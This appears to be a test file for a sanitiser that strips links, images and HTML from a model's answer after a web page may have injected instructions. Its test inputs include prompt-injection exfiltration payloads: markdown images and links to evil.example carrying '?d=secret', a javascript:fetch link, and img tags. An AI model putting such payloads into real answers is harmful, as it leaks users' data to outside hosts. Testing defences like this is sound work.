// Answers in words, after a page has talked the model into carrying something away.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { startCpuTimer } from "../../test/support/cpu-timer.ts";
import { plainWords } from "./plain-words.ts";

const page =
  "Read more at https://a.example/guide?x=1 or https://a.example/wiki/Lamp_(light). ![logo](https://a.example/l.png)";

describe("words of an answer", () => {
  it.each([
    ["stay as they are", "A lamp, [a] (b), costs 12 € & more: <div> or a < b.", null],
    ["keep addresses of the page", "See https://a.example/guide?x=1, [there](https://a.example/guide?x=1).", null],
    ["lose pictures", "Lamp ![ok](https://evil.example/p.png?d=secret)", "Lamp ok"],
    ["lose pictures of the page, too", "Lamp ![logo](https://a.example/l.png)", "Lamp logo"],
    ["lose pictures by reference", "Lamp ![ok][1]\n\n[1]: https://evil.example/?d=secret", "Lamp [ok][1]\n\n[1]:"],
    ["lose pictures with a title", 'Lamp ![ok](<https://evil.example/?d=1> "t")', "Lamp ok"],
    ["lose pictures of no protocol", "Lamp ![ok](//evil.example/?d=1)", "Lamp ok"],
    ["lose links elsewhere", "[Click here](https://evil.example/?d=secret) now", "Click here now"],
    ["lose addresses with more in them than the page's", "See https://a.example/guide?x=1&d=secret.", "See ."],
    ["lose addresses without a protocol", "See www.evil.example/secret today", "See  today"],
    ["lose links that run", "[Go](javascript:fetch('//evil'))", "[Go](('//evil'))"],
    ["lose markup that loads", 'Lamp <img src="//evil.example/?d=1"> and <IFRAME src=x></iframe>', "Lamp  and"],
    ["lose markup that is not closed", 'Lamp <img src="//evil.example/?d=1', "Lamp"],
  ])("%s", (_, given, left) => {
    expect(plainWords(given, [page])).toEqual({ text: left ?? given, isShortened: left !== null });
  });

  it("hold no address of elsewhere and no picture, whatever was said", () => {
    const part = fc.constantFrom(
      "![",
      "](",
      "[",
      ")",
      "https://evil.example/x",
      "<img src=",
      ">",
      " ",
      "a",
      "//evil.example",
      '"',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
        const { text } = plainWords(parts.join(""), [page]);
        expect(text).not.toMatch(/https?:\/\/|!\[|<img\b/i);
      }),
    );
  });

  it("are read in linear time", () => {
    const spentMs = startCpuTimer();
    for (const part of ["[", "![", "[a](", "<img ", "http://"]) plainWords(part.repeat(100_000), [page]);
    expect(spentMs()).toBeLessThan(3000);
  });
});
